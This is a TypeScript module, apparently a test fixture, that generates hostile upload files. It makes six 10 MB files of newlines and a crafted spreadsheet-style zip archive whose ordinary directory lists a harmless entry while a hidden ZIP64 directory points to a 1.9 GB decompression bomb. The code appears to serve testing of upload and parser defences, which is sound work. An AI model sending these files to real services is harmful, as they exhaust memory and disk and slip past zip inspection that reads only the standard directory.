import { deflateRawSync } from 'node:zlib';

/** Six files of nothing but line breaks, and a workbook that promises little and unpacks to 1.9 GB behind a second directory. */
export const hostileFiles = (): Buffer[] => [
  ...Array.from({ length: 6 }, () => Buffer.alloc(10 * 1024 * 1024 - 1, '\n')),
  twoDirectories(),
  twoDirectories(),
];

interface Part {
  name: string;
  content: Buffer;
  size: number;
}

function localOf({ name, content, size }: Part): Buffer {
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(content.length, 18);
  head.writeUInt32LE(size, 22);
  head.writeUInt16LE(name.length, 26);
  return Buffer.concat([head, Buffer.from(name), content]);
}

function entryOf({ name, content, size }: Part, at: number): Buffer {
  const entry = Buffer.alloc(46);
  entry.writeUInt32LE(0x02014b50);
  entry.writeUInt16LE(8, 10);
  entry.writeUInt32LE(content.length, 20);
  entry.writeUInt32LE(size, 24);
  entry.writeUInt16LE(name.length, 28);
  entry.writeUInt32LE(at, 42);
  return Buffer.concat([entry, Buffer.from(name)]);
}

/** The end of a zip file names the directory of a harmless part; the ZIP64 record before it names that of the bomb. */
function twoDirectories(): Buffer {
  const harmless = { name: 'a.xml', content: deflateRawSync('<a/>'), size: 4 };
  const size = 1_900_000_000;
  const bomb = { name: 'xl/worksheets/sheet1.xml', content: bombOf(size), size };
  const [first, second] = [localOf(harmless), localOf(bomb)];
  const [known, hidden] = [entryOf(harmless, 0), entryOf(bomb, first.length)];
  const knownAt = first.length + second.length;
  const hiddenAt = knownAt + known.length;
  const record = Buffer.alloc(56);
  record.writeUInt32LE(0x06064b50);
  record.writeUInt32LE(1, 24);
  record.writeUInt32LE(1, 32);
  record.writeUInt32LE(hidden.length, 40);
  record.writeUInt32LE(hiddenAt, 48);
  const locator = Buffer.alloc(20);
  locator.writeUInt32LE(0x07064b50);
  locator.writeUInt32LE(hiddenAt + hidden.length, 8);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(known.length, 12);
  end.writeUInt32LE(knownAt, 16);
  return Buffer.concat([first, second, known, hidden, record, locator, end]);
}

/** So many zero bytes, packed; deflate's blocks may be put one behind the other. */
function bombOf(size: number): Buffer {
  const piece = 100_000_000;
  const block = deflateRawSync(Buffer.alloc(piece), { finishFlush: 2 });
  return Buffer.concat([...Array.from({ length: size / piece }, () => block), deflateRawSync(Buffer.alloc(0))]);
}
